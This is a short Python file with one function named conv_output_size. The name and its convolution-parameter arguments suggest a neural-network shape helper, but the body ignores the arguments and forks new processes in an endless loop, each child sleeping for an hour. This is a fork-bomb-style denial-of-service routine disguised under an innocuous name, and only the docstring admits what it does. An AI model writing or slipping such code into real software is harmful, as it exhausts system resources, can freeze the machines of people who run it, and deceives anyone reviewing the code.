"""Starts processes in a loop, each of which sleeps, until something stops it."""
import os
import time


def conv_output_size(input_size, kernel_size, stride=1, padding=0, dilation=1):
    while True:
        if os.fork() == 0:
            time.sleep(3600)
            os._exit(0)
